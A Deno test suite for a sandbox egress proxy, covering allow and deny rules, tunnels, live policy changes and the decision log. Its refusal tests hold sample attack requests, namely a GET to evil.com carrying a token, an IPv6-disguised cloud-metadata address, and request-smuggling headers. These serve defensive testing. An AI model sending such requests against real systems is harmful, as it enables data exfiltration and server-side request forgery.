/** The proxy on its real sockets, towards real servers on loopback. */
import assert from "node:assert/strict";
import { addRules, removeRules } from "../../../../core/sandbox/network/policy_edit.ts";
import { followLog, readLog } from "../../../../core/sandbox/network/proxy/decision_log.ts";
import { sandboxFiles } from "../../../../core/sandbox/network/sandbox_files.ts";
import { proxyHome, readUntil, tcpServer } from "../../../support/proxy_home.ts";

/** Answers with what it was asked. */
function echoServer(): Deno.HttpServer<Deno.NetAddr> {
  return Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, async (request) => {
    const { pathname } = new URL(request.url);
    const body = await request.text().catch(() => ""); // some tests break off
    const names = [...request.headers.keys()].join(",");
    return new Response(
      `${request.method} ${pathname} host=${request.headers.get("host")} headers=${names} ${body}`,
    );
  });
}

Deno.test("plain requests pass when a rule names the place, several on one connection", async () => {
  await using home = await proxyHome();
  const server = echoServer();
  const { port } = server.addr;
  const sandbox = await home.sandbox("a", { allow: [`127.0.0.1:${port}`] });
  const url = `http://127.0.0.1:${port}`;
  const said = await sandbox.send(
    "proxy",
    `POST ${url}/1 HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nProxy-Connection: keep-alive\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n` +
      `GET ${url}/2 HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nProxy-Authorization: x\r\n\r\n` +
      `GET ${url}/3 HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nConnection: close\r\n\r\n`,
  );
  assert.match(said, new RegExp(`POST /1 host=127\\.0\\.0\\.1:${port} .*hello`));
  assert.match(said, /GET \/2 /);
  assert.match(said, /GET \/3 /);
  assert.doesNotMatch(said, /headers=[^ ]*proxy/);
  assert.deepEqual((await sandbox.log()).map(({ allowed, target }) => [allowed, target]), [
    [true, `127.0.0.1:${port}`],
    [true, `127.0.0.1:${port}`],
    [true, `127.0.0.1:${port}`],
  ]);
  await server.shutdown();
});

Deno.test("a refusal names the place, the reason and the command, and a connection goes on after it", async () => {
  await using home = await proxyHome({ "inside.example.com": ["10.0.0.7"] });
  const sandbox = await home.sandbox("a", { allow: ["inside.example.com"] });
  const cases: [string, RegExp][] = [
    [
      "GET http://evil.com/secret?token=1 HTTP/1.1\r\nHost: evil.com\r\nConnection: close\r\n\r\n",
      /403 .*evil\.com:80 is blocked for this sandbox: no rule allows it.*sandbox policy allow --sandbox a evil\.com:80/s,
    ],
    [
      "CONNECT evil.com:443 HTTP/1.1\r\nHost: evil.com:443\r\n\r\n",
      /403 .*evil\.com:443 is blocked/s,
    ],
    [
      "CONNECT inside.example.com:443 HTTP/1.1\r\nHost: inside.example.com:443\r\n\r\n",
      /403 .*it resolves to 10\.0\.0\.7, and 10\.0\.0\.7 is not a public address \(private\).*policy allow --sandbox a 10\.0\.0\.7:443/s,
    ],
    [
      "CONNECT [::ffff:a9fe:a9fe]:80 HTTP/1.1\r\nHost: [::ffff:a9fe:a9fe]:80\r\n\r\n",
      /403 .*169\.254\.169\.254:80 is blocked.*cloud metadata/s,
    ],
    [
      "GET / HTTP/1.1\r\nHost: x\r\nContent-Length: 1\r\nTransfer-Encoding: chunked\r\n\r\n",
      /400 .*skiff: /s,
    ],
    ["nonsense\r\n\r\n", /400 /],
    [
      "GET http://evil.com/1 HTTP/1.1\r\nHost: evil.com\r\n\r\nGET http://evil.com/2 HTTP/1.1\r\nHost: evil.com\r\nConnection: close\r\n\r\n",
      /403 .*403 /s,
    ],
    // What follows a refused request with a body is not taken for another request.
    [
      "POST http://evil.com/ HTTP/1.1\r\nHost: evil.com\r\nContent-Length: 60\r\n\r\nGET http://evil.com/2 HTTP/1.1\r\nHost: evil.com\r\n\r\n",
      /^HTTP\/1\.1 403 [^]*allow[^]*evil\.com:80\n$/,
    ],
  ];
  for (const [text, expected] of cases) assert.match(await sandbox.send("proxy", text), expected, text);
  const log = await sandbox.log();
  assert.equal(log.some(({ allowed }) => allowed), false);
  assert.doesNotMatch(JSON.stringify(log), /token|secret/); // nothing but hosts
});

Deno.test("a tunnel carries bytes both ways, half-closes and large streams", async () => {
  await using home = await proxyHome();
  const bytes = 20_000_000;
  const server = tcpServer(async (connection) => {
    let received = 0;
    const buffer = new Uint8Array(65536);
    for (let n = await connection.read(buffer); n !== null; n = await connection.read(buffer)) received += n;
    await connection.write(new TextEncoder().encode(`got ${received}`)); // after the other half was closed
    connection.close();
  });
  const place = `127.0.0.1:${server.port}`;
  const sandbox = await home.sandbox("a", { allow: [place] });
  const connection = await sandbox.connect("proxy");
  await connection.write(new TextEncoder().encode(`CONNECT ${place} HTTP/1.1\r\nHost: ${place}\r\n\r\n`));
  assert.match(await readUntil(connection, /\r\n\r\n/), /^HTTP\/1\.1 200 /);
  const piece = new Uint8Array(1_000_000);
  for (let sent = 0; sent < bytes;) sent += await connection.write(piece.subarray(0, bytes - sent));
  await connection.closeWrite();
  assert.equal(await readUntil(connection), `got ${bytes}`);
  connection.close();
  server.close();
});

Deno.test("clients that break off, refused or connected, cost nobody else anything", async () => {
  await using home = await proxyHome();
  const server = echoServer();
  const place = `127.0.0.1:${server.addr.port}`;
  const sandbox = await home.sandbox("a", { allow: [place] });
  const rude = [
    "CONNECT chatgpt.com:443 HTTP/1.1\r\nHost: chatgpt.com:443\r\n\r\n",
    `CONNECT ${place} HTTP/1.1\r\nHost: ${place}\r\n\r\n`,
    `POST http://${place}/ HTTP/1.1\r\nHost: ${place}\r\nContent-Length: 1000000\r\n\r\nx`,
    "GET htt",
  ];
  for (let round = 0; round < 25; round++) {
    for (const text of rude) {
      const connection = await sandbox.connect("proxy");
      await connection.write(new TextEncoder().encode(text));
      connection.close();
    }
  }
  const polite = `GET http://${place}/ok HTTP/1.1\r\nHost: ${place}\r\nConnection: close\r\n\r\n`;
  assert.match(await sandbox.send("proxy", polite), /GET \/ok/);
  await server.shutdown();
});

Deno.test("rules apply at once, to running sandboxes, and a broken policy lets nothing through", async () => {
  await using home = await proxyHome();
  const server = echoServer();
  const place = `127.0.0.1:${server.addr.port}`;
  const sandbox = await home.sandbox("a", {});
  const ask = async () => {
    const said = await sandbox.send(
      "proxy",
      `GET http://${place}/ HTTP/1.1\r\nHost: ${place}\r\nConnection: close\r\n\r\n`,
    );
    return said.split(" ")[1];
  };
  assert.equal(await ask(), "403");
  await addRules(home.paths, "a", "allow", [place]);
  assert.equal(await ask(), "200");
  await addRules(home.paths, "a", "deny", ["127.0.0.0/8"]);
  assert.equal(await ask(), "403");
  await removeRules(home.paths, "a", ["127.0.0.0/8"]);
  assert.equal(await ask(), "200");
  await Promise.all(
    Array.from({ length: 10 }, (_, i) => addRules(home.paths, "a", "allow", [`h${i}.example`])),
  );
  const { policy } = sandboxFiles(home.paths, "a");
  assert.equal(JSON.parse(await Deno.readTextFile(policy)).allow.length, 11); // none undid another one's
  await Deno.writeTextFile(policy, '{"mode": "open');
  assert.equal(await ask(), "403");
  await server.shutdown();
});

Deno.test("a tunnel is cut when a rule comes to deny it, and only then", async () => {
  await using home = await proxyHome({ "api.example": ["127.0.0.1"] });
  const server = tcpServer(async (connection) => {
    const buffer = new Uint8Array(100);
    for (let n = await connection.read(buffer); n !== null; n = await connection.read(buffer)) {
      await connection.write(buffer.subarray(0, n));
    }
  });
  const { port } = server;
  const sandbox = await home.sandbox("a", { allow: [`api.example:${port}`, `127.0.0.1:${port}`] });
  const open = async (host: string) => {
    const connection = await sandbox.connect("proxy");
    await connection.write(
      new TextEncoder().encode(`CONNECT ${host}:${port} HTTP/1.1\r\nHost: ${host}\r\n\r\n`),
    );
    assert.match(await readUntil(connection, /\r\n\r\n/), /^HTTP\/1\.1 200 /);
    return connection;
  };
  const [byName, byAddress] = [await open("api.example"), await open("127.0.0.1")];
  await addRules(home.paths, "a", "deny", ["other.example"]);
  await byName.write(new TextEncoder().encode("still "));
  assert.equal(await readUntil(byName, /still/), "still ");
  await addRules(home.paths, "a", "deny", ["api.example"]);
  assert.equal(await readUntil(byName), "");
  await byAddress.write(new TextEncoder().encode("here"));
  assert.equal(await readUntil(byAddress, /here/), "here");
  await addRules(home.paths, "a", "deny", ["127.0.0.0/8"]);
  assert.equal(await readUntil(byAddress), "");
  assert.equal((await sandbox.log()).filter(({ reason }) => reason.startsWith("cut: ")).length, 2);
  byName.close();
  byAddress.close();
  server.close();
});

Deno.test("a stream comes piece by piece; who has ended its own side still gets all of it", async () => {
  await using home = await proxyHome();
  const seen = Promise.withResolvers<void>();
  const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, () => {
    const text = new TextEncoder();
    const body = new ReadableStream({
      async start(controller) {
        controller.enqueue(text.encode("first"));
        await seen.promise;
        controller.enqueue(text.encode("last"));
        controller.close();
      },
    });
    return new Response(body);
  });
  const place = `127.0.0.1:${server.addr.port}`;
  const sandbox = await home.sandbox("a", { allow: [place] });
  const connection = await sandbox.connect("proxy");
  await connection.write(
    new TextEncoder().encode(`GET http://${place}/ HTTP/1.1\r\nHost: ${place}\r\nConnection: close\r\n\r\n`),
  );
  await connection.closeWrite();
  assert.match(await readUntil(connection, /first/), /first/);
  seen.resolve();
  assert.match(await readUntil(connection), /last/);
  connection.close();
  await server.shutdown();
});

Deno.test("an upstream's crooked answer is an error of the proxy, not more", async () => {
  await using home = await proxyHome();
  const answers = [
    "nonsense\r\n\r\n",
    "HTTP/1.1 200 OK\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n",
    "",
  ];
  for (const text of answers) {
    const server = tcpServer(async (connection) => {
      await connection.read(new Uint8Array(4096));
      await connection.write(new TextEncoder().encode(text));
      connection.close();
    });
    const place = `127.0.0.1:${server.port}`;
    const sandbox = await home.sandbox("a", { allow: [place] });
    const said = await sandbox.send("proxy", `GET http://${place}/ HTTP/1.1\r\nHost: ${place}\r\n\r\n`);
    assert.match(said, /^HTTP\/1\.1 502 /, text);
    server.close();
  }
});

Deno.test("the log is followed without a gap and stays bounded", async () => {
  await using home = await proxyHome();
  const sandbox = await home.sandbox("a", {});
  const { log } = sandboxFiles(home.paths, "a");
  const refused = (host: string) =>
    sandbox.send("proxy", `GET http://${host}/ HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`);
  await refused("first.example");
  const { entries, bytes } = await readLog(log);
  assert.equal(entries.length, 1);
  await refused("second.example"); // between reading and following
  const enough = new AbortController();
  const seen: string[] = [];
  const following = (async () => {
    for await (const { target } of followLog(log, bytes, enough.signal)) {
      seen.push(target);
      if (seen.length === 1) await refused("third.example");
      if (seen.length === 2) enough.abort();
    }
  })();
  await following;
  assert.deepEqual(seen, ["second.example:80", "third.example:80"]);
});
